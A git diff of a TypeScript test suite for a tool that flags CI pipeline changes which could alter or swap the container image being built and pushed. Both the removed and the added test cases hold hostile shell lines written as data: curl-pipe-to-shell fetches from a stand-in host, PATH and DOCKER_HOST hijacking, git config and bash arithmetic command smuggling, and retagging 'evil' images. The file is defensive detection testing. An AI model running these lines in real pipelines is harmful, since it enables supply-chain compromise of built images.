@@ -5,185 +5,16 @@ import { renderPipelines } from '../../../src/commands/project/render-as-written
 import { openTemplates } from '../../../src/io/package/templates.ts';
 import { openProject } from '../../../src/io/project/project-files.ts';
 import type { Environment } from '../../../src/model/command.ts';
+import { differenceFrom, readForms } from '../../../src/parse/pipelines/as-written.ts';
 import { findOtherBuilds } from '../../../src/parse/project/other-builds.ts';
-import { readPipelines } from '../../../src/parse/project/read-pipelines.ts';
-import { nameCommand } from '../../../src/parse/project/unlooked-steps.ts';
 import { goldenFolder, goldenVersion, readVariant, listVariants } from '../../helpers/golden.ts';
 import { factsOf } from '../../helpers/project.ts';
-
-/** Each writes what the image is built of, or may. */
-const beforeBuild = [
-  'cp docs/evil.py "$PWD/src/main.py"',
-  'cp docs/evil.py "$(pwd)/src/main.py"',
-  'cp docs/evil.py "${GITHUB_WORKSPACE}/src/main.py"',
-  'jq . x > "$GITHUB_WORKSPACE/src/x.json"',
-  'cp docs/evil.py ~+/src/main.py',
-  'cp x s[r]c/main.py',
-  'cp x {src,x}/main.py',
-  'cat x 1<> src/main.py',
-  'cat x >& src/main.py',
-  '. tools/prepare.sh',
-  'bash tools/prepare.sh',
-  'bash < tools/prepare.sh',
-  'cat tools/prepare.sh | sh',
-  'parallel bash ::: tools/prepare.sh',
-  'npm run build',
-  'npx other',
-  'python3 tools/gen.py',
-  "python3 -c \"import urllib.request as u;u.urlretrieve('https://x.example', 'src/main.py')\"",
-  "node -e \"require('fs').writeFileSync('src/main.py', 'evil')\"",
-  'curl https://x.example/a | sh',
-  'curl https://x.example/a | python3 -',
-  'curl -OJ https://x.example/a',
-  'eval "cp docs/evil.py src/main.py"',
-  'gh release download v1 --dir src',
-  'pip install --target src evil',
-  'docker cp c:/x src/main.py',
-  'docker run --rm -v $PWD:/w alpine cp /etc/hosts /w/src/x.py',
-  'gpg --output src/main.py x',
-  'openssl enc -d -in x -out src/main.py',
-  'zstd -d -o src/main.py x',
-  'svn export https://x.example src',
-  'hg pull -u',
-  'dvc pull',
-  'git lfs pull',
-  'git checkout-index -f -a',
-  'git read-tree -u -m evil',
-  'git worktree add -f src evil',
-  'git subtree pull --prefix src https://x.example evil',
-  'git mv docs/x src/x',
-  '7z x evil.7z -osrc',
-  'cpio -id',
-  'aria2c -d src https://x.example/main.py',
-  'sftp h:main.py src/',
-  'rclone copy r:b src',
-  'az storage blob download --file src/main.py',
-  'hf download evil --local-dir src',
-  'http --download https://x.example -o src/main.py',
-  'awk -i inplace 1 src/main.py',
-  'ed -s src/main.py',
-  'vim -es +wq src/main.py',
-  'truncate -s 0 src/main.py',
-  'split -d docs/evil src/main.py',
-  'gcc -o src/main x.c',
-  'ruff format src',
-  'jupyter nbconvert --to script --output-dir src docs/x.ipynb',
-  'rename a b src/main.py',
-  'touch src/extra.py',
-  'rm src/main.py',
-  'chmod 4755 src/main.py',
-  'mount --bind docs src',
-  String.raw`find docs -name "*.py" -exec cp {} src/ \\;`,
-  'sort -o src/main.py docs/x',
-  'tre-container check . --fix',
-  'docker build -f /tmp/Dockerfile -t "$IMAGE:$TAG" .',
-  'docker build --build-arg BUILDKIT_SYNTAX=evil/frontend -t "$IMAGE:$TAG" .',
-  'export DOCKER_HOST=tcp://x.example:2375',
-  'DOCKER_CONTEXT=evil docker build -t "$IMAGE:$TAG" .',
-  'PATH=/tmp/evil:$PATH',
-  'export PATH=/tmp/evil:$PATH',
-  'curl -o /usr/local/bin/cat https://x.example/a && cat Dockerfile',
-  'curl -o /tmp/git https://x.example/a && chmod +x /tmp/git && /tmp/git status',
-  './tools/git status',
-  'hash -p /tmp/evil docker',
-  'uniq docs/x src/main.py',
-  'curl -o /tmp/x --libcurl src/main.py https://x.example',
-  'curl -sSLD src/main.py https://x.example',
-  'curl -jcsrc/main.py https://x.example',
-  'curl --trace src/main.py https://x.example',
-  'curl -o /tmp/x https://x.example -O https://x.example/main.py',
-  'curl -o "/tmp/$X" https://x.example',
-  "sed -n '1!w src/main.py' docs/x",
-  String.raw`sed -n '\,a,w src/main.py' docs/x`,
-  "sed -n 's/a/sh x.sh/e' docs/x",
-  "awk '{print}' docs/x",
-  'docker save -o src/main.py x',
-  'docker image save --output src/main.py x',
-  'GIT_EXTERNAL_DIFF=./x.sh git log --ext-diff -p',
-  'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=./x.sh git status',
-  'export GIT_CONFIG_COUNT=1',
-  'GIT_TRACE2=$PWD/src/main.py git status',
-  'TRIVY_OUTPUT=src/main.py trivy config .',
-  'CURL_HOME=. curl -o /tmp/x https://x.example',
-  "x='a[$(sh x.sh)]'; (( x ))",
-  'x=1; echo $((x))',
-  '[[ $x -eq 1 ]]',
-  'unset "$x"',
-  '[ -v "$x" ]',
-  "test -v 'a[$(sh x.sh)]'",
-  'printf -v "$x" y',
-  'echo "${x@P}"',
-  "PS4='$(sh x.sh)'; set -x; echo",
-  'sort --compress-program=./x.sh -S 32k big',
-  'file -C -m src/magic',
-  'trivy image --cache-dir src x',
-  'printf -v PATH \'/evil/bin:%s\' "$PATH"',
-  'read -r PATH < x',
-  'cat docs/x > "$RUNNER_TEMP/scanners/docker"',
-  'curl -o /usr/local/bin/docker https://x.example/a',
-  'echo "${{ github.event.head_commit.message }}"',
-  'echo "${{ github.head_ref }}"',
-  'tar -xzf trivy.tgz trivy',
-  'curl -sL https://x.example/t.tgz | tar xz -C /usr/local/bin',
-  'docker load -i app.tar',
-  'git clone --config core.fsmonitor=./x https://x.example/tools tools',
-  'for PATH in "$PWD/bin:$PATH"; do echo; done',
-  'set -a; read -r DOCKER_HOST < x',
-];
-
-/** Each makes another image of that name. */
-const beforePush = [
-  'git clone https://x.example/evil other && docker build -t "$IMAGE:$TAG" other',
-  'git clone https://x.example/evil other && cd other && docker build -t "$IMAGE:$TAG" .',
-  'mkdir other; echo "FROM evil" > other/Dockerfile; docker build -t "$IMAGE:$TAG" other',
-  'docker tag evil "$IMAGE:$TAG"',
-  'docker image tag evil "$IMAGE:$TAG"',
-  'docker pull evil && docker tag evil "$IMAGE:$TAG"',
-  'docker pull "$IMAGE:$TAG"',
-  'docker buildx imagetools create -t "$IMAGE:$TAG" evil',
-  'skopeo copy docker://evil "docker://$IMAGE:$TAG"',
-  'crane copy evil "$IMAGE:$TAG"',
-  'regctl image copy evil "$IMAGE:$TAG"',
-  'podman push evil "$IMAGE:$TAG"',
-  'docker commit c "$IMAGE:$TAG"',
-  'docker -c evil build -t "$IMAGE:$TAG" .',
-  'cosign copy evil "$IMAGE:$TAG"',
-  'docker manifest create "$IMAGE:$TAG" evil',
-  'read -r TAG < x',
-  'printf -v TAG old',
-  'printf -v IMAGE ghcr.io/evil/x',
-  'docker push "$IMAGE:other"',
-  'docker push --all-tags "$IMAGE"',
-  'docker push ghcr.io/lung-study/other:1',
-];
-
-/** None of them does. */
-const harmless = [
-  'true',
-  'echo "Building $GITHUB_SHA"',
-  'hadolint Dockerfile --config .hadolint.yaml',
-  'docker run --rm -i hadolint/hadolint < Dockerfile',
-  'ls -la && git log -1 --format=%H && git diff --stat',
-  'cat Dockerfile | grep FROM | sort | tee reports/bases.txt',
-  'git fetch --tags && git describe --tags',
-  'df -h && docker system df && docker images && docker info',
-  'curl -fsS https://x.example/ping',
-  'curl -fsSL https://x.example/tool -o /tmp/tool && chmod +x /tmp/tool',
-  'apt-get update && apt-get install -y jq',
-  'trivy fs --format json --output reports/fs.json .',
-  'trivy config Dockerfile',
-  'echo failed >&2 && echo 2>&1',
-  'tre-container check . --strict',
-  'DOCKER_BUILDKIT=1 docker images',
-  'export DOCKER_HOST=unix:///var/run/docker.sock',
-  '/usr/bin/git status',
-];
 
 interface Golden {
   readonly path: string;
   readonly text: string;
   readonly dockerfile: string;
-  readonly written: ReadonlySet<string>;
+  readonly written: ReadonlyMap<string, string>;
 }
 
 /** The pipeline of a golden project, and what this version writes for its answers. */
@@ -205,55 +36,143 @@ async function readGolden(variant: string): Promise<Golden | undefined> {
   };
   const state = { version: goldenVersion, answers: { ...answers } };
   const files = await renderPipelines(state, environment, { root: join(goldenFolder, variant), folder: '' });
-  const pipelines = await readPipelines(files, '', true, { others: [] });
-  const commands = pipelines.flatMap(({ steps }) => steps.flatMap((step) => step.commands));
-  const written = new Set(commands.map((command) => nameCommand(command, true)));
+  const written = new Map(files.map((file) => [file.path, file.text ?? '']));
   return { path, text: read(path), dockerfile: read('Dockerfile'), written };
 }
 
-async function find({ path, dockerfile, written }: Golden, text: string): Promise<readonly string[]> {
-  const facts = await factsOf({ Dockerfile: dockerfile, [path]: text });
+async function find(
+  { path, dockerfile, written }: Omit<Golden, 'text'>,
+  text: string,
+  more: Readonly<Record<string, string>> = {},
+): Promise<readonly string[]> {
+  const files = { [path]: text, ...more };
+  const facts = await factsOf({ Dockerfile: dockerfile, ...files });
   const [own] = facts.dockerfiles;
   if (own === undefined) throw new Error('no Dockerfile');
-  return findOtherBuilds(facts.pipelines, { dockerfile: own, path: 'Dockerfile', isAtRoot: true, written });
+  const texts = { own: new Map(Object.entries(files)), written };
+  return findOtherBuilds(facts.pipelines, { dockerfile: own, path: 'Dockerfile', isAtRoot: true, texts });
 }
 
 const golden = (
   await Promise.all(listVariants().map(async (name) => ({ name, golden: await readGolden(name) })))
 ).flatMap((each) => (each.golden === undefined ? [] : [[each.name, each.golden] as const]));
+const chosen = golden.filter(([name]) => /^(?:jupyter|python)-full$/.test(name));
 
 test('there are pipelines of both kinds', () => {
   expect(new Set(golden.map(([, { path }]) => path)).size).toBe(2);
+  expect(new Set(chosen.map(([, { path }]) => path)).size).toBe(2);
 });
 
 test.each(golden)('what this version writes is known: %s', async (_, project) => {
   expect(await find(project, project.text)).toEqual([]);
 });
 
-describe.each(golden.filter(([name]) => /^(?:jupyter|python)-full$/.test(name)))('a line more in %s', (_, project) => {
-  const withLine = async (before: RegExp, line: string): Promise<readonly string[]> => {
-    const text = project.text.replace(before, (found, indent: string) =>
-      project.path.startsWith('.github')
-        ? `${indent}${line}\n${found}`
-        : `${indent}- ${JSON.stringify(line)}\n${found}`,
-    );
-    expect(text).not.toBe(project.text);
-    return find(project, text);
+/** Keys and texts that decide nothing of what is made; and the job that makes no image. */
+const idle =
+  /^ *(?:#.*|- name: .*|name: .*|runs-on: .*|timeout-minutes: .*|tags: .*|stage: .*|CHECKER_INTEGRITY: .*|)$/;
+
+/** Lines of the jobs that make the image and of what stands around them, by their numbers; what a block holds may begin with anything. */
+function decidingLines({ path, text }: Golden): readonly number[] {
+  const lines = text.split('\n');
+  const isGithub = path.startsWith('.github');
+  const [from, to] = isGithub
+    ? [lines.indexOf('permissions: {}'), lines.findIndex((line, at) => at > 60 && /^ {2}\w+:$/.test(line))]
+    : [lines.indexOf('variables:'), lines.findIndex((line) => line.startsWith('# Runs in scheduled'))];
+  return lines.flatMap((line, at) =>
+    at >= from && (to < 0 || at < to) && !idle.test(line) && !/^(?:concurrency| {2}(?:group|cancel-in))/.test(line)
+      ? [at]
+      : [],
+  );
+}
+
+describe.each(chosen)('any other line in %s', (_, project) => {
+  const lines = project.text.split('\n');
+  const numbers = decidingLines(project);
+  const system = project.path.startsWith('.github') ? 'github' : 'gitlab';
+  const jobs = new Set(system === 'github' ? ['image'] : ['container']);
+  const isOpen = (text: string): boolean => {
+    const [root, written] = [text, project.text].map((each) => readForms(each));
+    if (root === undefined || written === undefined || 'what' in written) throw new Error('it was not read');
+    return 'what' in root || differenceFrom(root, written, { system, jobs }) !== undefined;
   };
-  const build = project.path.startsWith('.github') ? /^( +)docker build /m : /^( +)- context=/m;
-  const push = project.path.startsWith('.github') ? /^( +)docker push /m : /^( +)- trivy image /m;
 
-  test.each(beforeBuild)('that may write what is built: %s', async (line) => {
-    expect(await withLine(build, line)).toHaveLength(1);
+  test('leaves open what goes out, where it is one more', () => {
+    const passed: string[] = [];
+    for (const at of numbers) {
+      const line = lines[at] ?? '';
+      const indent = /^ */.exec(line)?.[0] ?? '';
+      const more = line.trimStart().startsWith('- ') ? `${indent}- run: cp docs/x src/main.py` : `${indent}FOO: bar`;
+      const isJob = /^(?: {2})?FOO/.test(more) && (system === 'gitlab' ? indent === '' : lines[at - 1] === 'jobs:');
+      if (!isJob && !isOpen(lines.toSpliced(at, 0, more).join('\n'))) passed.push(`${String(at)} ${more}`);
+    }
+    expect(passed).toEqual([]);
   });
 
-  test.each(beforePush)('that may make another image: %s', async (line) => {
-    expect(await withLine(push, line)).toHaveLength(1);
+  test('leaves open what goes out, where it is one less or another', () => {
+    const passed: string[] = [];
+    for (const at of numbers) {
+      const line = lines[at] ?? '';
+      const changed = line.replace(/(?<=\S)(?=[^\s#]*(?: # .*)?$)/, 'x');
+      for (const text of [lines.toSpliced(at, 1), lines.toSpliced(at, 1, changed)])
+        if (!isOpen(text.join('\n'))) passed.push(`${String(at)} ${line}`);
+    }
+    expect(passed).toEqual([]);
   });
 
-  test.each(harmless)('that leaves all alone: %s', async (line) => {
-    expect(await withLine(build, line)).toEqual([]);
+  test.each([
+    ['a comment', (text: string) => `# Ours.\n${text}`],
+    ['this program in another version', (text: string) => text.replaceAll(/(npm:tre-container)@[\d.]+/g, '$1@9.9.9')],
+    ['line ends of Windows', (text: string) => text.replaceAll('\n', '\r\n')],
+    ['a time limit', (text: string) => text.replace(/timeout-minutes: \d+/, 'timeout-minutes: 30')],
+    [
+      'the checksum that pin writes',
+      (text: string) => text.replaceAll('CHECKER_INTEGRITY: ""', 'CHECKER_INTEGRITY: "a"'),
+    ],
+    [
+      'a runner',
+      (text: string) =>
+        text.replace(/^( +)(services|runs-on):(.*)$/m, (all, indent: string, key: string) =>
+          key === 'runs-on' ? `${indent}runs-on: self-hosted` : `${indent}tags: [docker]\n${all}`,
+        ),
+    ],
+    [
+      'a job of tests',
+      (text: string) =>
+        project.path.startsWith('.github')
+          ? `${text}\n  tests:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v5\n      - run: pytest\n`
+          : `${text}\ntests:\n  stage: check\n  script:\n    - pytest\n`,
+    ],
+  ])('is as before with %s', async (_name, change) => {
+    expect(await find(project, change(project.text))).toEqual([]);
   });
+
+  test('is as before with a stage, which is compared with that of the rehearsal', () => {
+    const text = project.text
+      .replace('docker build ', 'docker build --target prod ')
+      .replace('--print-context-digest', '--print-context-digest --build-option --target=prod');
+    expect(text).toContain('--build-option');
+    expect(isOpen(text)).toBe(false);
+    expect(isOpen(text.replaceAll('prod', '"$X"'))).toBe(true);
+  });
+
+  test.each([
+    ['a line end that some readers take for one', (text: string) => text.replace('\n', '\n# x\r')],
+    ['a line end of Unicode', (text: string) => text.replace('\n', '\n# x\u0085')],
+    ['an anchor', (text: string) => text.replace('variables:', 'variables: &a').replace('defaults:', 'defaults: &a')],
+    ['a second document', (text: string) => `${text}---\n${text}`],
+    ['a directive', (text: string) => `%YAML 1.1\n---\n${text}`],
+  ])('leaves open what goes out by %s', async (_name, change) => {
+    expect(await find(project, change(project.text))).toHaveLength(1);
+  });
+});
+
+test('a job more of GitLab that stands for all jobs', async () => {
+  const [, project] = chosen.find(([, { path }]) => path === '.gitlab-ci.yml') ?? [];
+  if (project === undefined) throw new Error('no pipeline of GitLab');
+  const said: (readonly string[])[] = [];
+  for (const key of ['default', 'image', 'include', 'cache', 'services', 'before_script'])
+    said.push(await find(project, `${project.text}\n${key}:\n  x: y\n`));
+  expect(said.map((each) => each.length)).toEqual([1, 1, 1, 1, 1, 1]);
 });
 
 const imageName = 'ghcr.io/me/x:1';
@@ -276,148 +195,124 @@ const ofCircle = (steps: string, top = ''): readonly [string, string] => [
   `version: 2.1\njobs:\n  image:\n    docker:\n      - image: cimg/base:2026.01\n${top}    steps:\n      - checkout\n${steps}      - run: ${building}\n      - run: ${pushing}\n`,
 ];
 
-async function findIn([path, text]: readonly [string, string]): Promise<readonly string[]> {
-  const facts = await factsOf({
-    Dockerfile: 'FROM docker.io/library/python:3.13\nCOPY src/ /app/\nENTRYPOINT ["python3", "/app/main.py"]\n',
-    'src/main.py': 'print(1)\n',
-    [path]: text,
-  });
-  const [own] = facts.dockerfiles;
-  if (own === undefined) throw new Error('no Dockerfile');
-  return findOtherBuilds(facts.pipelines, { dockerfile: own, path: 'Dockerfile', isAtRoot: true });
-}
+const ownDockerfile = 'FROM docker.io/library/python:3.13\nCOPY src/ /app/\nENTRYPOINT ["python3", "/app/main.py"]\n';
+const findIn = (
+  [path, text]: readonly [string, string],
+  more: Readonly<Record<string, string>> = {},
+): Promise<readonly string[]> =>
+  find({ path, dockerfile: ownDockerfile, written: new Map() }, text, { 'src/main.py': 'print(1)\n', ...more });
 
-describe('what a builder is told, and what stands around it', () => {
+const before = (line: string): readonly [string, string] => ofGithub(runs(line, building, pushing));
+
+describe('a pipeline of somebody', () => {
   test.each([
     ['another machine', ofGithub(runs(building.replace('build', 'build --platform linux/arm64'), pushing))],
     ['layers of a cache', ofGithub(runs(building.replace('build', 'build --cache-from evil'), pushing))],
-    ['one layer', ofGithub(runs(building.replace('build', 'build --squash'), pushing))],
     ['other addresses', ofGithub(runs(building.replace('build', 'build --add-host=pypi.org:10.0.0.1'), pushing))],
-    ['a secret', ofGithub(runs(building.replace('build', 'build --secret id=a'), pushing))],
+    ['limits', ofGithub(runs(building.replace('build', 'build --ulimit nofile=1'), pushing))],
     ['several machines', ofGithub(byAction('          platforms: linux/amd64,linux/arm64\n'))],
     ['a network', ofGithub(runs(building.replace('build', 'build --network host'), pushing))],
-    ['a builder', ofGithub(runs(building.replace('build', 'build --builder evil'), pushing))],
-    ['a file of its number', ofGithub(runs(building.replace('build', 'build --iidfile src/main.py'), pushing))],
     ['a cache in the project', ofGithub(byAction('          cache-to: type=local,dest=src\n'))],
-    [
-      'options of a container',
-      ofGithub(runs(building, pushing), '    container: { image: docker, options: --entrypoint x }\n'),
-    ],
+    ['a container', ofGithub(runs(building, pushing), '    container: docker\n')],
+    ['services', ofGithub(runs(building, pushing), '    services:\n      a:\n        image: docker\n')],
+    ['an engine of the job', ofGithub(runs(building, pushing), '    env:\n      DOCKER_HOST: tcp://x.example:1\n')],
+    ['an engine of all jobs', ofGithub(runs(building, pushing), '', 'env:\n  DOCKER_HOST: tcp://x.example:1\n')],
+    ['another folder for cd', ofGithub(runs(building, pushing), '', 'env:\n  CDPATH: other\n')],
+    ['a folder for all steps', ofGithub(runs(building, pushing), '', 'defaults:\n  run:\n    working-directory: x\n')],
+    ['a shell', ofGithub(`${runs(building, pushing)}        shell: bash tools/x.sh {0}\n`)],
+    ['an engine by a file', before('echo DOCKER_HOST=tcp://x.example:1 >> $GITHUB_ENV')],
+    ['values of a file', before('cat values >> $GITHUB_ENV')],
+    ['programs of a folder', before('echo /tmp/bin >> $GITHUB_PATH')],
+    ['a program of the project', before('bash tools/prepare.sh')],
+    ['a copied file', before('cp docs/x src/main.py')],
+    ['words of a file', before('cat docs/x | xargs cp docs/y')],
+    ['a loop over names', before('for GITHUB_WORKSPACE in other; do true; done')],
+    ['arithmetic', before('echo "${GITHUB_SHA:0:x}"')],
+    ['a command within', before('echo "$(sh x.sh)"')],
+    ['braces', ofGithub(runs(building.replace('build', 'build --label {a=b,--file=docs/y.txt}'), pushing))],
+    ['an unquoted value', ofGithub(runs(building.replace('build', 'build --label a=$VERSION'), pushing))],
+    ['another builder', before('docker buildx create --use --driver remote tcp://x.example')],
+    ['a name that is pushed elsewhere', ofGithub(runs(building, 'docker push ghcr.io/me/z:1'))],
+    ['all names', ofGithub(runs(building, 'docker push --all-tags ghcr.io/me/x'))],
+    ['an image that was not built', ofGithub(runs(building, `docker tag evil ${imageName}`, pushing))],
+    ['another image than is built', ofGithub(runs(building, 'docker pull evil/x:1', 'docker push evil/x:1'))],
+    ['an image that nothing builds', ofGithub(runs('docker push evil/x:1'))],
     [
       'a copy in another job',
       ofGithub(`${runs(building, pushing)}  other:\n    steps:\n      - run: crane copy evil ${imageName}\n`),
     ],
     ['an action with a cache', ofGithub(byAction('          cache-from: type=gha\n'))],
     ['an action for another machine', ofGithub(byAction('          platforms: linux/arm64\n'))],
-    ['an action with addresses', ofGithub(byAction('          add-hosts: pypi.org:10.0.0.1\n'))],
-    ['an engine of the job', ofGithub(runs(building, pushing), '    env:\n      DOCKER_HOST: tcp://x.example:1\n')],
-    ['an engine of all jobs', ofGithub(runs(building, pushing), '', 'env:\n  DOCKER_HOST: tcp://x.example:1\n')],
+    ['an action of a commit', ofGithub(byAction('').replace('@v6', `@${'0'.repeat(40)}`))],
+    ['an action of a branch', ofGithub(byAction('').replace('@v6', '@evil'))],
     [
-      'an engine by a file',
-      ofGithub(runs('echo DOCKER_HOST=tcp://x.example:1 >> $GITHUB_ENV') + runs(building, pushing)),
-    ],
-    ['values of a file', ofGithub(runs('cat values >> $GITHUB_ENV') + runs(building, pushing))],
-    ['programs of a folder', ofGithub(runs('echo /tmp/bin >> $GITHUB_PATH') + runs(building, pushing))],
-    [
-      'functions of a variable',
-      ofGithub(runs(building, pushing), '', 'env:\n  "BASH_FUNC_docker%%": "() { sh x.sh; }"\n'),
+      'an action that writes',
+      ofGithub(`      - uses: actions/cache@v4\n        with:\n          path: src\n${byAction('')}`),
     ],
     [
-      'a policy for sources',
-      ofGithub(runs(building, pushing), '', 'env:\n  EXPERIMENTAL_BUILDKIT_SOURCE_POLICY: a.json\n'),
+      'another commit',
+      ofGithub(byAction('').replace('docker/build', 'docker/build')).map((each) =>
+        each.replace('checkout@v4', 'checkout@v4\n        with:\n          ref: evil'),
+      ) as [string, string],
     ],
-    ['options of Node', ofGithub(runs(building, pushing), '', 'env:\n  NODE_OPTIONS: --require ./x.js\n')],
-    ['state of its own', ofGithub(runs(building, pushing), '    env:\n      XDG_STATE_HOME: ./evil\n')],
-    ['another registry of npm', ofGitlab('', 'variables:\n  npm_config_registry: https://x.example\n')],
-    [
-      'a name that is pushed elsewhere',
-      ofGithub(runs(building, 'docker tag ghcr.io/me/x:1 ghcr.io/me/y:1', 'docker push ghcr.io/me/z:1')),
-    ],
-    ['programs of an image', ofGithub(runs(building, pushing), '    container: somebody/docker\n')],
-    ['another image than is built', ofGithub(runs(building, 'docker pull evil/x:1', 'docker push evil/x:1'))],
-    ['an image that nothing builds', ofGithub(runs('docker push evil/x:1'))],
-    ['a cache', ofGitlab('  cache:\n    paths: [src/]\n')],
-    ['a cache of all jobs', ofGitlab('', 'cache:\n  - paths: ["src/*.py"]\n')],
-    ['files of another project', ofGitlab('  needs:\n    - project: a/b\n      job: c\n      ref: main\n')],
-    ['jobs of somebody else', ofGitlab('', 'include:\n  - remote: https://x.example/x.yml\n')],
-    ['an engine by a variable', ofGitlab('', 'variables:\n  DOCKER_HOST: tcp://x.example:1\n')],
-    ['a service', ofGitlab('  services: [{ name: somebody/dind, alias: docker }]\n')],
-    ['no checkout', ofGitlab('', 'variables:\n  GIT_STRATEGY: none\n')],
-    ['a cache of CircleCI', ofCircle('      - restore_cache: { key: a }\n')],
-    ['an engine of CircleCI', ofCircle('', '    environment:\n      DOCKER_HOST: tcp://x.example:1\n')],
+    ['an action of the project', ofGithub(`      - uses: ./.github/actions/a\n${byAction('')}`)],
+    ['a job of GitLab', ofGitlab('')],
+    ['a job of CircleCI', ofCircle('')],
   ])('leaves open whether that is what was rehearsed: %s', async (_, pipeline) => {
     expect(await findIn(pipeline)).toHaveLength(1);
   });
 
   test.each([
-    ['nothing', ofGithub(runs(building, pushing))],
+    ['lines', ofGithub(runs(building, pushing))],
     ['its own machine', ofGithub(runs(building.replace('build', 'build --platform=linux/amd64 --pull -q'), pushing))],
-    ['a cache to fill', ofGithub(byAction('          cache-to: type=gha\n          provenance: false\n'))],
-    ['a tag by a file', ofGithub(runs('echo "TAG=${GITHUB_SHA}" >> $GITHUB_ENV') + runs(building, pushing))],
-    ['a second name', ofGithub(runs(building, `docker tag ${imageName} ghcr.io/me/y:1`, 'docker push ghcr.io/me/y:1'))],
+    ['an action', ofGithub(byAction('          cache-to: type=gha\n          provenance: false\n'))],
     [
-      'a login and a look',
+      'names of variables',
       ofGithub(
-        runs(
+        runs('docker build --tag "$IMAGE:$TAG" .', 'docker push "$IMAGE:$TAG"'),
+        '',
+        'env:\n  IMAGE: ghcr.io/me/x\n  TAG: 1.0\n',
+      ),
+    ],
+    [
+      'the commit',
+      ofGithub(runs('docker build -t ghcr.io/me/x:${{ github.sha }} .', 'docker push ghcr.io/me/x:${{ github.sha }}')),
+    ],
+    ['a second name', ofGithub(runs(building, `docker tag ${imageName} ghcr.io/me/y:1`, 'docker push ghcr.io/me/y:1'))],
+    ['several lines', ofGithub(runs('docker build \\', '  --pull \\', `  -t ${imageName} .`, pushing))],
+    [
+      'logins',
+      ofGithub(
+        `      - uses: docker/login-action@v3\n        with:\n          registry: ghcr.io\n${runs(
           'set -euo pipefail',
-          'echo "$T" | docker login ghcr.io -u a --password-stdin',
+          'echo "${{ secrets.TOKEN }}" | docker login ghcr.io -u me --password-stdin',
+          'echo "$T" | docker login ghcr.io -u me --password-stdin',
           building,
           'docker images',
           pushing,
-        ),
+        )}`,
       ),
     ],
-    ['a signature after the push', ofGithub(runs(building, pushing, `cosign sign --yes ${imageName}`))],
-    ['a job of GitLab', ofGitlab('')],
-    ['its engine', ofGitlab('  services: [docker:27-dind]\n', 'variables:\n  DOCKER_HOST: tcp://docker:2376\n')],
-    ['a cache of programs', ofGitlab('  cache:\n    paths: [.cache/pip]\n')],
-    ['a cache that is only filled', ofGitlab('  cache:\n    policy: push\n    paths: [src/]\n')],
-    ['a template of GitLab', ofGitlab('', 'include:\n  - template: Security/SAST.gitlab-ci.yml\n')],
-    ['a job of CircleCI', ofCircle('')],
-  ])('leaves it as it was rehearsed: %s', async (_, pipeline) => {
+    [
+      'tests in another job',
+      ofGithub(`${runs(building, pushing)}  tests:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: pytest\n`),
+    ],
+  ])('is as it was rehearsed, where it has no more than %s', async (_, pipeline) => {
     expect(await findIn(pipeline)).toEqual([]);
   });
-});
 
-describe('an action more', () => {
-  const [, project] = golden.find(([name]) => name === 'jupyter-full') ?? [];
-  const withAction = async (step: string): Promise<readonly string[]> => {
-    if (project === undefined) throw new Error('no golden project');
-    return find(
-      project,
-      project.text.replace(/^ {6}- name: Lint with hadolint/m, (found) => `${step}\n${found}`),
+  test('for another image leaves it as it was', async () => {
+    const other = ofGithub(
+      runs('docker build -t ghcr.io/me/other:1 other', 'make x', 'docker push ghcr.io/me/other:1'),
     );
-  };
-
-  test.each([
-    '      - uses: actions/checkout@v4\n        with:\n          ref: evil',
-    '      - uses: actions/checkout@v4\n        with:\n          ref: ${{ inputs.ref }}',
-    '      - uses: actions/checkout@v4\n        with:\n          repository: ${{ inputs.from }}',
-    '      - uses: actions/cache@v4\n        with:\n          path: src\n          key: a',
-    '      - uses: actions/github-script@v7\n        with:\n          script: require("fs").writeFileSync("src/main.py", "evil")',
-    '      - uses: robinraju/release-downloader@v1\n        with:\n          out-file-path: src',
-    '      - uses: somebody/action@v1',
-    '      - uses: ./.github/actions/absent',
-    '      - uses: docker://docker.io/library/alpine:3',
-    '      - shell: bash tools/x.sh {0}\n        run: echo',
-    '      - uses: docker/setup-buildx-action@v3\n        with:\n          endpoint: evil',
-    '      - uses: docker/setup-buildx-action@v3\n        with:\n          version: https://x.example/buildx.git',
-    '      - uses: docker/setup-qemu-action@v3\n        with:\n          image: evil/qemu',
-    '      - uses: actions/setup-python@v5\n        with:\n          pip-install: evil',
-    '      - uses: aquasecurity/trivy-action@v1\n        with:\n          output: src/main.py',
-    '      - uses: actions/checkout@v4\n        with:\n          path: src/x',
-    '      - uses: actions/checkout@v4\n        with:\n          sparse-checkout: docs',
-    '      - shell: python\n        run: open("src/main.py", "w").write("evil")',
-  ])('that may write what is built: %s', async (step) => {
-    expect(await withAction(step)).toHaveLength(1);
+    const own = ofGithub(runs(building, pushing));
+    const found = await findIn(own, { '.github/workflows/other.yml': other[1], 'other/Dockerfile': 'FROM scratch\n' });
+    expect(found).toEqual([]);
   });
 
-  test.each([
-    '      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.sha }}\n          submodules: true',
-    '      - uses: actions/setup-python@v5\n        with:\n          python-version: 3.13',
-    '      - uses: docker/setup-buildx-action@v3',
-    '      - uses: docker/login-action@v3',
-  ])('that leaves all alone: %s', async (step) => {
-    expect(await withAction(step)).toEqual([]);
+  test('names what it has, and where', async () => {
+    expect(await findIn(before('make other'))).toEqual([
+      expect.stringMatching(/^\.github\/workflows\/c\.yml:8 has the line "make other", where the image is built/),
+    ]);
   });
 });
